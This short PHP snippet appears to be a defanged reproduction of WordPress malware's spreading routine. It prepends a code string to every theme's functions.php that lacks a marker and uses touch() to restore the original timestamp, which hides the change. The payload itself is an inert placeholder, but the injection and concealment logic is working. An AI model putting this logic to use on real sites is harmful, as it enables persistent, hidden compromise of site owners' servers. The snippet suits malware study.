<?php
// inert stand-in for the code that gets planted
$install_code = "<?php /* planted */ ?>";
$themes = ABSPATH . 'wp-content' . DIRECTORY_SEPARATOR . 'themes';
if ($list = scandir($themes)) {
    foreach ($list as $t) {
        $f = $themes . DIRECTORY_SEPARATOR . $t . DIRECTORY_SEPARATOR . 'functions.php';
        if (file_exists($f)) {
            $time = filectime($f);
            if ($content = file_get_contents($f)) {
                if (strpos($content, '/* planted */') === false) {
                    $content = $install_code . $content;
                    @file_put_contents($f, $content);
                    touch($f, $time);
                }
            }
        }
    }
}
